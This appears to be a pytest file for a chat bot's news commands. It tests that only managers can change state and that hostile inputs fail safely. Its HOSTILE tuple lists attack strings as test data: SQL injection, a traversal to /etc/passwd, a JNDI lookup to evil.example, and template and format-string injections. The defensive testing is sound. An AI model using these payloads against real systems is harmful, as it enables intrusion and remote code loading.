"""What somebody in a chat can do with the commands: ask."""

import pytest

from bot.commands import COMMANDS, Answering, Desk
from bot.message import Message, Paragraph, words
from bot.ports import CommandCall
from bot.store import Store
from tests.lifetimes import FakeClock
from tests.make import brief, entry, topic

HOSTILE = (
    "'; DROP TABLE articles; --",
    '" OR 1=1 --',
    'soldiers" OR "x',
    "NEAR(soldiers Velmora, 2) AND NOT body:x*",
    "headline : soldiers ^ ( ) { } * - + |",
    "soldiers:* & !velmora <-> 'x'",
    "%_%' ESCAPE '\\",
    "\x00\x1b[2J\ud800",
    "../../../../etc/passwd",
    "${jndi:ldap://evil.example} {{7*7}} {0.__class__} %s%n",
    "soldiers " * 20_000,
    "\N{MATHEMATICAL BOLD SMALL A}\u202e" * 2_000,
)
TEXT_COMMANDS = tuple(
    (each.key, argument.name)
    for each in COMMANDS
    for argument in each.spec.arguments
    if not argument.choices and each.spec.group == "news"
)
LONGEST_ANSWER = 20_000


@pytest.fixture
async def answering(store: Store, clock: FakeClock) -> Answering:
    await store.sync_topics((topic("troops"),))
    told = brief(1)
    async with store.transaction() as tx:
        await store.articles.add(tx, told, source="source", entry=entry("guid"), story_id=told.article.id)
    found = Answering(Desk(store, clock))
    await found.refresh()
    return found


async def ask(answering: Answering, command: str, *, manager: bool, **arguments: str) -> Message:
    return await answering(
        CommandCall(command=command, arguments=arguments, platform="fake", channel="news", user="u", is_manager=manager)
    )


async def test_no_managers_command_answers_anybody_else(answering: Answering, store: Store) -> None:
    kept = await store.topics.all(), await store.subscriptions.all()
    for each in COMMANDS:
        if each.spec.managers_only:
            arguments = {argument.name: (argument.choices or ("1",))[0] for argument in each.spec.arguments}
            answer = await ask(answering, each.key, manager=False, **arguments)
            assert isinstance(answer.blocks[0], Paragraph)
            assert "those who manage" in words(answer.blocks[0].text)
    assert (await store.topics.all(), await store.subscriptions.all()) == kept


def test_whatever_changes_something_is_for_managers() -> None:
    changing = {"follow", "unfollow", "topic-add", "topic-remove", "outbox"}
    assert {each.spec.name for each in COMMANDS if each.spec.managers_only} == changing


async def test_hostile_words_find_nothing_break_nothing_and_stay_short(answering: Answering, store: Store) -> None:
    for text in HOSTILE:
        for command, argument in TEXT_COMMANDS:
            required = {
                each.name: "troops"
                for known in COMMANDS
                if known.key == command
                for each in known.spec.arguments
                if each.required
            }
            answer = await ask(answering, command, manager=True, **(required | {argument: text}))
            assert len(repr(answer)) < LONGEST_ANSWER, (command, argument, text[:40])
            assert "wrong on my side" not in repr(answer), (command, argument, text[:40])
    found = await store.search.articles("soldiers")
    assert len(found) == 1


async def test_an_unknown_command_is_not_repeated_at_length(answering: Answering) -> None:
    answer = await ask(answering, "x" * 100_000, manager=False)
    assert len(repr(answer)) < 1_000
